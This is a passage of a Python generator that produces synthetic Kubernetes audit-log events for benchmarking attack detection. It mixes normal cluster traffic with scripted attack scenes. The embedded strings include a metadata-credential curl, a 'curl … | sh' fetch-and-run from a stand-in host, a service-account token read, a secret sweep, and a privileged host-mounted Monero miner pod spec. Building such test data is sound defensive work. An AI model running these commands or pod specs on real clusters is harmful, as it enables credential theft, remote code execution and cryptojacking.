            t + self.rng.uniform(2, 6), who, "list", f"/api/v1/namespaces/{ns}/secrets", _ref("secrets", ns)
        )
        return out

    def exec_into_pod(self, t: float) -> Episode:
        """(b) Someone execs a shell into a running pod and reaches for the cloud metadata service."""
        ns, pod, app, _node = self.rng.choice(self.c.pods)
        who = self.c.person(self.rng.choice((1, 2)))
        cmd = self.rng.choice(
            (
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "curl -sL http://203.0.113.66/x.sh | sh",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            )
        )
        params = "&".join(f"command={quote(p, safe='')}" for p in ("sh", "-c", cmd))
        uri = _path("pods", ns, pod) + f"/exec?{params}&container={app}&stdin=true&stdout=true&tty=true"
        ref = _ref("pods", ns, pod, subresource="exec")
        return self.ev.request(
            t, who, "create", uri, ref, code=101, latency=self.rng.uniform(20, 180), started=True
        )

    def secret_sweep(self, t: float) -> Episode:
        """(c) A stolen service-account token lists every secret in the cluster, then reads them one by one."""
        ns, pod, app, _node = self.rng.choice(self.c.pods)
        # The token still names the pod it was stolen from; the source IP is not the pod's.
        who = self.c.service_account(
            ns,
            app,
            self.rng.choice(ATTACKER_IPS),
            "python-requests/2.31.0",
            _rbac_reason(
                "ClusterRoleBinding", f"{app}-debug", "cluster-admin", "ServiceAccount", f"{ns}/{app}"
            ),
            pod=pod,
        )
        out = self.ev.request(t, who, "list", "/api/v1/secrets?limit=500", _ref("secrets"), latency=0.12)
        picks = self.rng.sample(SECRETS, self.rng.randrange(11, len(SECRETS) + 1))
        when = t + self.rng.uniform(3, 10)
        for sns, name in picks:
            out += self.ev.request(when, who, "get", _path("secrets", sns, name), _ref("secrets", sns, name))
            when += self.rng.uniform(0.3, 2.5)
        return out

    def miner_pod(self, t: float, ip: str | None = None) -> Episode:
        """(d) TeamTNT-style: a privileged pod with the node's `/` mounted, running a Monero miner.

        Created with the default service account's long-lived token (no pod binding), found meanwhile.
        """
        who = self.c.service_account(
            "default",
            "default",
            ip or self.rng.choice(ATTACKER_IPS),
            "kubectl/v1.27.1 (linux/amd64) kubernetes/4c94112",
            _rbac_reason(
                "ClusterRoleBinding", "default-admin", "cluster-admin", "ServiceAccount", "default/default"
            ),
        )
        ns = self.rng.choice(("default", "kube-system"))
        name = self.rng.choice(("kube-cache", "system-updater", "monitoring-agent")) + "-" + self.c.suffix(5)
        image = self.rng.choice(MINER_IMAGES)
        pool = self.rng.choice(MINER_POOLS)
        wallet = "4" + "".join(
            self.rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94)
        )
        pod = {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {"name": name, "namespace": ns, "labels": {"app": name.rsplit("-", 1)[0]}},
            "spec": {
                "hostPID": True,
                "hostNetwork": True,
                "containers": [
                    {
                        "name": "main",
                        "image": image,
                        "command": ["/xmrig/xmrig"],
                        "args": [
                            "-o",
                            pool,
                            "-u",
                            wallet,
                            "-p",
                            "x",
                            "--donate-level=1",
                            "--cpu-max-threads-hint=100",
                        ],
                        "securityContext": {"privileged": True},
                        "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
                    }
                ],
                "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": "Directory"}}],
                "tolerations": [{"operator": "Exists"}],
            },
            "status": {},
        }
        return self.ev.request(
            t,
            who,
            "create",
            _path("pods", ns),
            _ref("pods", ns, name),
            code=201,
            level="RequestResponse",
            request_object=pod,
            response_object=_created(self.c, pod, t, name),
            annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
        )


# Background traffic and its weights: mostly kubelets and controllers, as in a real cluster.
_BACKGROUND: tuple[tuple[str, float], ...] = (
    ("kubelet_lease", 22),
    ("kubelet_node_status", 5),
    ("kubelet_reads", 9),
    ("kubelet_pod_status", 5),
    ("kubelet_watch", 2),
    ("leader_election", 12),
    ("controllers", 14),
    ("pod_create", 4),
    ("coredns_reads", 3),
    ("ci_deploy", 1.5),
    ("kubectl", 4),
    ("health_check", 6),
    ("own_secret", 1),
    ("anonymous_denied", 0.3),
)
ATTACKS = ("anonymous_allowed", "exec_into_pod", "secret_sweep", "miner_pod")
# Each attack and each rare look-alike happens once at a fixed point of the story, so every run shows them.
_STORY: tuple[tuple[float, str], ...] = (
    (0.10, "cni_daemonset"),
    (0.25, "anonymous_allowed"),
    (0.45, "exec_into_pod"),
    (0.60, "secret_sweep"),
    (0.80, "miner_pod"),
)


def generate(
    seed: int,
    n: int,
    *,
    attack_ratio: float = 0.03,
    start: datetime | None = None,
    cluster: str = DEFAULT_CLUSTER,
) -> Iterator[dict[str, Any]]:
    """Yield `n` audit Events of a small cluster in event-time order, the same for the same arguments.

    Each attack scenario and the CNI DaemonSet roll-out happen once at fixed points of the run (when
    `n` leaves room for them); beyond that, `attack_ratio` of the events come from attacks repeated at
    random, so a benchmark sees a few percent of hostile traffic.
    """
    if n < 0:
        raise ValueError(f"events must be >= 0, got {n}")
    if not 0.0 <= attack_ratio < 1.0:
        raise ValueError(f"attack_ratio must be in [0, 1), got {attack_ratio}")
    rng = random.Random(seed)
    traffic = _Traffic(rng, cluster)
    names = [name for name, _w in _BACKGROUND]
    weights = [w for _name, w in _BACKGROUND]
    scenes: dict[str, Callable[[float], Episode]] = {
        name: getattr(traffic, name) for name in (*names, *ATTACKS, "cni_daemonset")
    }
    # In the story, one actor probes the API anonymously and later deploys the miner from the same address.
    actor = rng.choice(ATTACKER_IPS)
    story_scenes = dict(scenes)
    story_scenes["anonymous_allowed"] = lambda t: traffic.anonymous_allowed(t, ip=actor)
    story_scenes["miner_pod"] = lambda t: traffic.miner_pod(t, ip=actor)
    story = [(int(at * n), name) for at, name in _STORY] if n >= 200 else []
    clock = (start or DEFAULT_START).timestamp()
    # Episodes span seconds to minutes: a heap orders their records by (receive time, stage time).
    pending: list[tuple[str, str, int, dict[str, Any]]] = []
    seq = emitted = attack_events = produced = 0
    while emitted < n:
        clock += rng.expovariate(40.0)  # ~40 requests/s: a small, quiet cluster
        if story and produced >= story[0][0]:
            name = story.pop(0)[1]
            episode = story_scenes[name](clock)
            if name in ATTACKS:
                attack_events += len(episode)
        elif attack_ratio and attack_events < attack_ratio * produced and produced > 50:
            episode = scenes[rng.choice(ATTACKS)](clock)
            attack_events += len(episode)
        else:
            episode = scenes[rng.choices(names, weights)[0]](clock)
        produced += len(episode)
        for record in episode:
            seq += 1
            heapq.heappush(
                pending, (record["requestReceivedTimestamp"], record["stageTimestamp"], seq, record)
            )
        # Everything received before now is final: later episodes start after `clock`.
        now = _ts(clock)
        while pending and pending[0][0] <= now and emitted < n:
            yield heapq.heappop(pending)[3]
            emitted += 1
    # `n` reached: whatever is still pending is dropped, so the count is exact.


def write_jsonl(events: Iterable[dict[str, Any]], out: str | Path) -> int:
    """Write events as JSON lines; returns how many were written."""
    count = 0
    with open(out, "wb") as fh:
        for event in events:
            fh.write(orjson.dumps(event))
            fh.write(b"\n")
            count += 1
    return count
